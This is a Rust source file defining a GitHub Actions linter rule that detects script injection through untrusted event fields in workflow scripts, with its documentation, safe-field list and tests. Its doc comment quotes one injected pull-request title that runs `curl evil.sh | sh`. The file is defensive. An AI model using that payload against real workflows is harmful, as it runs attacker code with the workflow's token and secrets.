use super::steps;
use crate::parse::yaml::{YNode, YamlFile};
use crate::rules::{Cx, Rule, declare_rule, rule_meta};
use crate::source::Loc;

declare_rule! {
    /// ## What it does
    /// Flags `${{ … }}` expressions in `run:` scripts (and `actions/github-script`'s
    /// `script:`) that expand attacker-controllable context: `github.event.*` (titles,
    /// bodies, branch names, commit messages, labels, …) and `github.head_ref`. Fields that
    /// are numbers, SHAs, ids, timestamps or booleans are exempt.
    ///
    /// ## Why is this bad?
    /// The expression is pasted into the script before the shell runs it. A pull request
    /// titled `a"; curl evil.sh | sh; echo "` runs that command in your workflow, with its
    /// token and secrets.
    ///
    /// ## Example
    /// ```yaml
    /// - run: echo "Title: ${{ github.event.pull_request.title }}"
    /// ```
    ///
    /// ## Use instead
    /// ```yaml
    /// - run: echo "Title: $TITLE"
    ///   env:
    ///     TITLE: ${{ github.event.pull_request.title }}
    /// ```
    ///
    /// ## References
    /// - Understanding the risk of script injections: <https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections>
    /// - zizmor `template-injection`: <https://docs.zizmor.sh/audits/#template-injection>
    pub struct ScriptInjection {
        code: "GH004",
        name: "script-injection",
        family: Workflow,
        severity: Error,
        summary: "untrusted event data expanded into a script",
        fix: "pass the value through `env:` and use the shell variable (`\"$TITLE\"`) in the script",
    }
}

const SAFE_SUFFIXES: &[&str] = &[
    ".number",
    ".id",
    ".sha",
    "_sha",
    ".before",
    ".after",
    "_at",
    ".draft",
    ".merged",
    ".size",
    ".run_id",
    ".run_number",
    ".run_attempt",
    ".node_id",
    ".commits",
    ".additions",
    ".deletions",
    ".changed_files",
    ".forced",
    ".created",
    ".deleted",
    ".action",
    ".private",
    ".fork",
];

/// Dangerous context references inside one `${{ … }}` expression.
pub fn dangerous(expr: &str) -> Option<String> {
    let tokens =
        expr.split(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | '*')));
    tokens
        .filter(|t| t.starts_with("github.event.") || *t == "github.head_ref")
        .find(|t| !SAFE_SUFFIXES.iter().any(|s| t.ends_with(s)))
        .map(str::to_string)
}

fn check(node: &YNode, file: &YamlFile, cx: &mut Cx<'_>) {
    let Some(script) = node.as_str() else { return };
    let mut rest = script;
    while let Some(start) = rest.find("${{") {
        let Some(len) = rest[start..].find("}}") else {
            break;
        };
        let expr = &rest[start..start + len + 2];
        if let Some(reference) = dangerous(expr) {
            let loc = locate(file, node.line, expr).unwrap_or_else(|| node.loc(&file.src));
            cx.report(
                loc,
                format!("`{reference}` is expanded into the script before it runs"),
            );
        }
        rest = &rest[start + len + 2..];
    }
}

/// The line of an expression, searching from the node's line on.
fn locate(file: &YamlFile, from: usize, expr: &str) -> Option<Loc> {
    (from..=file.src.line_count())
        .find(|&l| file.src.line_text(l).contains(expr))
        .map(|l| file.src.find_on_line(l, expr))
}

impl Rule for ScriptInjection {
    rule_meta!();

    fn workflow(&self, file: &YamlFile, cx: &mut Cx<'_>) {
        for step in steps(file) {
            if let Some(run) = step.get("run") {
                check(run, file, cx);
            }
            let uses = step.get("uses").and_then(YNode::as_str).unwrap_or("");
            if uses.starts_with("actions/github-script@")
                && let Some(script) = step.path(&["with", "script"])
            {
                check(script, file, cx);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::dangerous;

    #[test]
    fn dangerous_contexts() {
        assert!(dangerous("${{ github.event.pull_request.title }}").is_some());
        assert!(dangerous("${{ github.head_ref }}").is_some());
        assert!(dangerous("${{ github.event.pull_request.number }}").is_none());
        assert!(dangerous("${{ github.event.pull_request.head.sha }}").is_none());
        assert!(dangerous("${{ github.sha }}").is_none());
        assert!(dangerous("${{ toJSON(github.event.issue.body) }}").is_some());
    }
}
